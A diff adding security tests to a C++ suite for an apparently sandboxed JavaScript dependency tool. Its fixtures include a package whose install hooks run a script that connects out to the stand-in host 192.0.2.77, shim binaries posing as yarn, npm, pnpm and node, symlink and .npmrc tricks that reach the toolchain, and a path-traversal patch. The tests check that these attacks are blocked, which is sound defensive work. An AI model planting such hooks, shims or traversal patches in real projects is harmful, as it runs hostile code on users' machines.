@@ -9,6 +9,8 @@
 #include "support/testsupport.h"
 
 #include <QElapsedTimer>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QProcess>
 #include <csignal>
 
@@ -163,6 +165,110 @@ private slots:
     }
 
     // ---- what is tested is what is proposed
+
+    /// A manager that was talked into running something of the repository would let it ask the
+    /// gate.
+    void noManagerIsTalkedIntoRunningTheRepository_data()
+    {
+        QTest::addColumn<QString>("manager");
+        QTest::addColumn<QString>("dependency");
+        QTest::addColumn<QString>("setUp"); // in the repository, by sh
+        QTest::newRow("Yarn 4: exec:") << "yarn@4.9.2" << "exec:./gen.js" << "";
+        QTest::newRow("Yarn 4: git+file:")
+            << "yarn@4.9.2" << "git+file://./work/repo/evil.git#commit=HASH" << "";
+        QTest::newRow("Yarn 1: git+file:")
+            << "yarn@1.22.22" << "git+file:///work/repo/evil.git#HASH" << "";
+        QTest::newRow("Yarn 1: a link into the tools")
+            << "yarn@1.22.22" << "file:./evil" << "ln -s ../toolchain node_modules";
+        QTest::newRow("pnpm: a setting that leads into the tools")
+            << "pnpm@9.15.9" << "link:./evil" << "echo modules-dir=../toolchain > .npmrc";
+        QTest::newRow("npm: a link into the tools")
+            << "" << "file:./work/repo/evil"
+            << "mkdir -p node_modules; ln -s ../../toolchain node_modules/@x";
+    }
+    void noManagerIsTalkedIntoRunningTheRepository()
+    {
+        QFETCH(QString, manager);
+        QFETCH(QString, dependency);
+        QFETCH(QString, setUp);
+        Repository repository;
+        const QByteArray knock =
+            "const s = require('net').connect(9080, '127.0.0.1', () => s.write('CONNECT "
+            "192.0.2.77:443 HTTP/1.1\\r\\nHost: 192.0.2.77:443\\r\\n\\r\\n'));\n"
+            "s.on('data', () => s.destroy()); s.on('error', () => {});\n";
+        repository.write("gen.js", knock);
+        repository.write(
+            "evil/package.json",
+            R"({"name": "bin", "version": "1.0.0", "scripts": {"preinstall": "node k.js",
+"install": "node k.js", "prepare": "node k.js", "prepack": "node k.js"}})");
+        repository.write("evil/k.js", knock);
+        for (const char *command : {"yarn", "pnpm", "npm", "node"})
+            repository.write(QStringLiteral("evil/") + command,
+                             "#!/bin/sh\n/usr/local/bin/node /work/repo/gen.js\n");
+        repository.write("test/a.test.js", passing);
+        // A git repository of its own, as plain files.
+        QProcess shell;
+        shell.setWorkingDirectory(repository.path());
+        shell.start(
+            "sh",
+            {"-ec",
+             "chmod 755 evil/yarn evil/pnpm evil/npm evil/node; cp -r evil x; cd x; git init "
+             "-q; git add -A; git -c user.name=x -c user.email=x@x.invalid commit -qm x; cd "
+             "..; git clone -q --bare x evil.git; rm -rf x evil.git/hooks; git -C evil.git "
+             "rev-parse HEAD; "
+                 + setUp});
+        QVERIFY(shell.waitForFinished(20'000));
+        const QString hash = QString::fromUtf8(shell.readAllStandardOutput()).trimmed();
+        QVERIFY2(shell.exitCode() == 0 && hash.size() == 40,
+                 shell.readAllStandardError().constData());
+        const QString name = manager.isEmpty() ? "@x/bin" : "bin";
+        const QJsonObject manifest{
+            {"name", "talked"},
+            {"private", true},
+            {manager.isEmpty() ? "description" : "packageManager", manager},
+            {"scripts", QJsonObject{{"test", countedTest}}},
+            {"dependencies",
+             QJsonObject{{name, QString(dependency).replace("HASH", hash)}, {"ms", "2.0.0"}}}};
+        repository.write("package.json", QJsonDocument(manifest).toJson());
+        repository.commit();
+        const Job job = run(strict(repository));
+        for (const EgressRow &row : job.egress)
+            QVERIFY2(!row.host.startsWith("192.0.2."), words(job).constData());
+        // Where it cannot be had without, that is said and nothing is proposed; where it can, what
+        // is proposed was tested.
+        if (job.outcome != Outcome::Succeeded) {
+            QCOMPARE(branches(repository), QStringList{"main"});
+            QVERIFY2(job.failure->phase == PhaseKind::Transform
+                         || job.failure->error.code == ErrorCode::Tampered,
+                     words(job).constData());
+        }
+    }
+
+    /// A file that an install leaves would be tested, and not proposed.
+    void whatAnInstallLeavesInTheRepositoryEndsTheJob()
+    {
+        Repository repository;
+        repository.write("p.patch",
+                         "diff --git a/../../../../../added.js b/../../../../../added.js\n"
+                         "new file mode 100644\nindex 0000000..1111111\n--- /dev/null\n"
+                         "+++ b/../../../../../added.js\n@@ -0,0 +1,1 @@\n+module.exports = 1;\n");
+        repository.write("test/a.test.js",
+                         QByteArray(passing)
+                             + "t('added', () => a.equal(require('../added'), 1));\n");
+        repository.write("package.json",
+                         R"({"name": "added", "private": true, "packageManager": "pnpm@9.15.9",
+"scripts": {"test": "node --test"}, "dependencies": {"ms": "2.0.0"},
+"pnpm": {"patchedDependencies": {"ms@2.1.3": "p.patch"}}})");
+        repository.commit();
+        JobRequest request = strict(repository);
+        request.selection.package = "ms";
+        request.selection.version = "2.1.3";
+        const Job job = run(request);
+        QVERIFY2(job.outcome == Outcome::Failed, words(job).constData());
+        QVERIFY2(job.failure->error.code == ErrorCode::PolicyViolation, words(job).constData());
+        QVERIFY2(job.failure->error.message.contains("added.js"), words(job).constData());
+        QCOMPARE(branches(repository), QStringList{"main"});
+    }
 
     void whatTheTestsAreJudgedByMayNotChange_data()
     {
